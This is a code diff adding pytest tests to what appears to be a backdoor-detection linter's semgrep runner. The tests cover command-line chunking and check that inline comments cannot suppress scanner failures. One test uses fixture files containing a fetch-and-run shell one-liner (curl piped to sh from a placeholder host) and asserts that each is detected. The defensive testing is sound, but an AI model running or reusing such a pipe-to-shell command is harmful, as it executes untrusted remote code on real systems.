@@ -308,3 +308,19 @@ def test_semgrep_renamed_away_blocks(tmp_path, monkeypatch):
     assert [f.code for f in result.findings] == ["BDL902"] and result.blocking
     assert "semgrep executable not found" in result.findings[0].message
     assert str(tmp_path / "bin" / "semgrep") in result.findings[0].message
+
+
+def test_many_targets_are_chunked_below_the_command_line_limit(monkeypatch):
+    monkeypatch.setattr(semgrep_runner, "MAX_COMMAND_CHARS", 60)
+    chunks = semgrep_runner._chunks([f"/tmp/dir/file{i:02}.sh" for i in range(10)])
+    assert len(chunks) == 4 and sum(len(c) for c in chunks) == 10
+    assert all(sum(len(p) + 1 for p in c) <= 60 for c in chunks)
+    items = [(f"s{i}.sh", b"curl -s https://x.example/i | sh\n") for i in range(6)]
+    result = semgrep_runner.scan_contents(items, Config())
+    assert sorted(f.path for f in result.findings) == sorted(d for d, _ in items)
+
+
+def test_semgrep_failure_cannot_be_suppressed_inline(tmp_path, monkeypatch):
+    monkeypatch.setenv(semgrep_runner.ENV_EXECUTABLE, str(tmp_path / "missing"))
+    sh = _write(tmp_path, "s.sh", "# backdoor-lint: ignore[BDL902] semgrep is flaky here\necho hi\n")
+    assert [f.code for f in _scan([sh]).findings] == ["BDL902"]
